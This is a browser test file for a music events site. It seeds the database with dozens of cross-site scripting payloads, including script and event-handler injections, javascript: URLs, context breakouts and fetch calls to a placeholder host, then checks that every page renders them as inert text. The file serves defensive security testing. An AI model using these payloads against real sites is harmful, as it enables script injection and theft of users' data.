/** What was never let into the database is there all the same: text stays text on every screen. */

import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { PYTHON } from '../../live/repository';
import {
  expect,
  isAlive,
  type LiveSite,
  type Locator,
  type Page,
  panelAs,
  test,
} from '../fixtures';

const CANARY = 'canary.example';

const CALL = `(globalThis.hacked=1,alert(1),fetch('https://${CANARY}/f'))`;
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<script src=https://${CANARY}/s.js></script>`,
  `</script><script>${CALL}</script>`,
  `<!--</script><script>${CALL}</script>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=https://${CANARY}/i.png>`,
  `<svg onload="${CALL}">`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror="${CALL}"></mtext></math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object data="https://${CANARY}/o"></object>`,
  `<embed src="https://${CANARY}/e">`,
  `<link rel=stylesheet href=https://${CANARY}/c.css>`,
  `<style>@import 'https://${CANARY}/c.css'</style>`,
  `<base href=https://${CANARY}/>`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY}/m">`,
  `<form action=https://${CANARY}/><input autofocus onfocus="${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<video><source onerror="${CALL}"></video>`,
  `<audio src=x onerror="${CALL}">`,
  `<details open ontoggle="${CALL}">`,
  `<body onload="${CALL}">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><script>${CALL}</script>">`,
];
const ESCAPES = [
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `" onmouseover="${CALL}" autofocus onfocus="${CALL}" x="`,
  `' onfocus='${CALL}' autofocus x='`,
  `"/><img src=x onerror="${CALL}">`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `\\"};${CALL};//`,
  `';${CALL};//`,
  `\`-${CALL}-\``,
  `\u2028${CALL}\u2029`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `<scr\0ipt>${CALL}</scr\0ipt>`.replaceAll('\0', '\u200b'),
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `__proto__`,
  `{"__proto__":{"hacked":1}}`,
  `url('https://${CANARY}/u')`,
  `expression(${CALL})`,
];
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `\tjava\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `blob:https://${CANARY}/1`,
  `view-source:javascript:${CALL}`,
];
const STRINGS = [...ELEMENTS, ...ESCAPES, ...ADDRESSES];

/** As no request could: with every CHECK of the database put aside. */
const PLANT = `
import json, sqlite3, sys
strings, connection = json.load(sys.stdin), sqlite3.connect(sys.argv[1], isolation_level=None)
connection.execute("PRAGMA ignore_check_constraints = ON")
connection.execute("BEGIN IMMEDIATE")
def insert(table, row):
    places = ", ".join("?" * len(row))
    connection.execute(f"INSERT INTO {table} ({', '.join(row)}) VALUES ({places})", list(row.values()))
artists = [row[1] for row in connection.execute("PRAGMA table_info(music_artists)")]
texts = ["name", "genre", "image", "followers", "latest_song", "bio", "social_instagram", "social_twitter", "website", "image_alt", "credit"]
now = "2026-01-01T00:00:00+00:00"
for number, text in enumerate(strings):
    row = {"id": f"x-{number}", **dict.fromkeys(texts, text), "is_featured": 0, "created_at": now, "updated_at": now, "published_at": now, "popularity": 0}
    row = {name: value for name, value in row.items() if name in artists}
    insert("music_artists", row)
    id = f"00000000-0000-4000-8000-{number:012}"
    event = {"id": id, "date": "2040-01-01", "upcoming_until": "2040-01-02T05:00:00+00:00", "artist_id": f"x-{number}", "created_at": now, "updated_at": now, "published_at": now}
    event |= dict.fromkeys(("venue", "location", "ticket_url", "price", "note"), text)
    insert("music_events", event)
    insert("music_lineup", {"id": id, "event_id": id, "name": text})
    insert("music_links", {"id": id, "artist_id": f"x-{number}", "url": text, "label": text})
connection.execute("COMMIT")
`;

async function plant(site: LiveSite): Promise<void> {
  const planting = promisify(execFile)(PYTHON, ['-c', PLANT, `${site.dataDir}/marquee.sqlite3`]);
  planting.child.stdin?.end(JSON.stringify(STRINGS));
  await planting;
}

/** What a page does that is none of its business. `noFaults` adds violations of the content security policy. */
function watch(page: Page): () => Promise<readonly string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('request', (request) => {
    if (new URL(request.url()).hostname === CANARY) seen.push(`request: ${request.url()}`);
  });
  page.on('popup', () => seen.push('popup'));
  return async () =>
    (await page.evaluate(() => 'hacked' in window || 'hacked' in {})) ? [...seen, 'hacked'] : seen;
}

/** Presses "Show more artists" until there are no more. */
async function showAll(list: Locator): Promise<void> {
  const more = list.getByRole('button', { name: 'Show more artists' });
  const shown = list.getByRole('listitem');
  await isAlive(list.page());
  await expect(more).toBeVisible();
  while ((await more.count()) > 0) {
    const before = await shown.count();
    await more.click();
    await expect(shown).not.toHaveCount(before);
  }
}

/** All of them stand in the lists; `make test-all` opens the pages of each as well. */
const hasPagesOpened = (number: number) => Boolean(process.env.EVERYTHING) || number % 5 === 0;

test.setTimeout(480_000);

test('markup planted in the database stays text on every screen', async ({ page, site }) => {
  expect(STRINGS).toHaveLength(60);
  await plant(site);
  const misdeeds = watch(page);

  await page.goto('/');
  await showAll(page.locator('#artists'));
  for (const text of STRINGS.slice(0, 30))
    await expect(page.locator('h3', { hasText: text })).not.toHaveCount(0);
  expect(await misdeeds()).toEqual([]);

  for (const [number, text] of STRINGS.entries()) {
    if (!hasPagesOpened(number)) continue;
    await page.goto(`/artist/x-${number}`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(text);
    const targets = await page.locator('#main a').evaluateAll(hrefs);
    for (const target of targets) expect(target).toMatch(HARMLESS);
    await page.goto(`/event/00000000-0000-4000-8000-${`${number}`.padStart(12, '0')}`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(text);
    for (const target of await page.locator('#main a').evaluateAll(hrefs))
      expect(target).toMatch(HARMLESS);
  }
  expect(await misdeeds()).toEqual([]);

  const panel = await panelAs(page, 'admin', site);
  await showAll(panel.getByRole('region', { name: 'Manage Artists' }));
  for (const text of [STRINGS[0], STRINGS[30], STRINGS[59]] as string[])
    await expect(panel.getByText(text, { exact: true }).first()).toBeAttached();
  await panel
    .getByRole('button', { name: /^Edit </ })
    .first()
    .click();
  await expect(panel.getByRole('button', { name: 'Save Changes' })).toBeVisible();
  expect(await misdeeds()).toEqual([]);
});

/** Pages of this site, its calendars, maps, and the two networks: nothing that was planted. */
const HARMLESS =
  /^(https:\/\/(www\.)?(instagram|twitter)\.com\/[^/?#]*|(http|webcal):\/\/127\.0\.0\.1:\d+\/[^?]*|https:\/\/(calendar|www)\.google\.com\/[^#]*|https:\/\/www\.openstreetmap\.org\/[^#]*)$/;

const hrefs = (links: Element[]) => links.map((link) => (link as HTMLAnchorElement).href);
